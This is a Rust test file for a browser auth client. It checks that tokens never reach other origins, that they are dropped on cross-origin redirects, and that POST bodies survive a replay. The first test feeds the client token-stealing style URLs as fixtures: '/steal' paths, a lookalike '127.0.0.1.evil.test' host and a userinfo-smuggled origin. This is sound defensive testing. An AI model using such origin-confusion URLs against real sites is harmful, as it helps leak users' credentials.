//! Where the token goes, and how a request is sent again.

use evertoken_tests::{Stage, Trap, USER};
use serde_json::json;

use crate::all;

#[tokio::test(flavor = "multi_thread")]
async fn s25_the_token_goes_to_no_other_origin() {
    let stage = Stage::new().await;
    let trap = Trap::start().await;
    stage.signed_in(USER).await;
    let own = stage.mock.url();
    let urls = json!([
        trap.url("127.0.0.1"),
        trap.url("localhost"),
        trap.url("127.0.0.1.evil.test"),
        format!("//127.0.0.1:{}", trap.port()),
    ]);
    let fetched =
        "return Promise.all(args.map((url) => auth.fetch(url + '/steal').then((r) => r.status)))";
    all(&stage.browser.run_with(fetched, urls).await, &json!(200), 4);
    // The browser itself refuses what names a user, and finds nobody under the other scheme.
    for url in [
        own.replace("http://", &format!("{}@", trap.url("127.0.0.1"))),
        own.replace("http:", "https:"),
    ] {
        let script = format!("await auth.fetch({:?})", format!("{url}/steal"));
        assert_eq!(
            stage.browser.fails(&script).await.name,
            "TypeError",
            "{url}"
        );
    }
    let seen = trap.seen();
    assert_eq!(seen.len(), 4);
    assert!(
        seen.iter().all(|seen| seen.authorization.is_none()),
        "{seen:?}"
    );
    stage.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn s25_a_redirect_to_another_origin_loses_the_token() {
    let stage = Stage::new().await;
    let (allowed, other) = (Trap::start().await, Trap::start().await);
    let origin = allowed.url("127.0.0.1");
    stage
        .client(&format!(
            "{{ allowedOrigins: [location.origin, {origin:?}] }}"
        ))
        .await;
    stage.login(USER).await;
    let url = format!("{origin}/redirect-to?{}/landed", other.url("127.0.0.1"));
    let status = stage
        .browser
        .run_with("return (await auth.fetch(args)).status", json!(url))
        .await;
    assert_eq!(status, 200);
    assert!(allowed.seen()[0].authorization.is_some());
    assert_eq!(other.seen()[0].authorization, None);
    stage.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn s25_a_request_with_a_post_body_is_replayed_with_method_headers_and_body_whole() {
    let stage = Stage::new().await;
    let resource = Trap::start().await;
    let origin = resource.url("127.0.0.1");
    stage
        .client(&format!(
            "{{ allowedOrigins: [location.origin, {origin:?}] }}"
        ))
        .await;
    stage.login(USER).await;
    let post =
        "const request = new Request(args + '/once-401', { method: 'POST', body: 'the whole body',
                headers: { 'X-Marker': 'm', 'Content-Type': 'text/plain' } });
                return (await auth.fetch(request)).status";
    assert_eq!(stage.browser.run_with(post, json!(origin)).await, 200);
    let seen = resource.seen();
    let [first, second] = seen.as_slice() else {
        panic!("two requests, not {seen:?}")
    };
    for request in [first, second] {
        assert_eq!(
            (request.method.as_str(), request.body.as_str()),
            ("POST", "the whole body")
        );
        assert_eq!(request.marker.as_deref(), Some("m"));
    }
    assert_ne!(first.authorization, second.authorization);
    assert_eq!(stage.mock.counters().rotations, 1);
    stage.end().await;
}
